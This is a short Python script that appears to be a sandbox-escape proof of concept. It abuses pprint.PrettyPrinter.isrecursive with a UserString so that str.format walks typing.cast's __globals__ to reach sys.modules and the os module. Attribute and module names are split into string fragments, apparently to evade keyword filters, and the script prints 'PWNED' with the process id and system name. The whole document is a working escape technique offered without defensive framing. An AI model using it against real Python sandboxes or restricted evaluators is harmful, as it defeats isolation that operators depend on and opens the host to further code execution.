import collections, pprint, typing
# pprint.PrettyPrinter.isrecursive(self, o) calls self.format(o, {}, 0, 0) in the library;
# with a UserString as self, that is UserString.format -> self.data.format(o, ...) : a format
# string computed at run time, walked in C.
fmt = "{0.__glo" + "bals__[s" + "ys].zz_not_there}"
us = collections.UserString(fmt)
got = None
try:
    pprint.PrettyPrinter.isrecursive(us, typing.cast)
except AttributeError as e:
    got = e.obj
print(type(got))
mods = got.modules
o = mods["o" + "s"]
print("PW" + "NED", o.getpid(), type(o).__name__, o.uname().sysname)
